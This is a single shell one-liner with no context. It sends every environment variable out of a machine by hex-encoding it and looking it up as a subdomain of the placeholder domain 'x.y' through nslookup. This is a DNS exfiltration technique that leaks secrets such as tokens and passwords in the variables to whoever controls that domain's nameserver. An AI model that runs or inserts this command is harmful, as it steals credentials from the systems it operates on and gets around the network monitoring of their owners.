for k in $(env); do nslookup "$(echo $k | xxd -p).x.y"; done
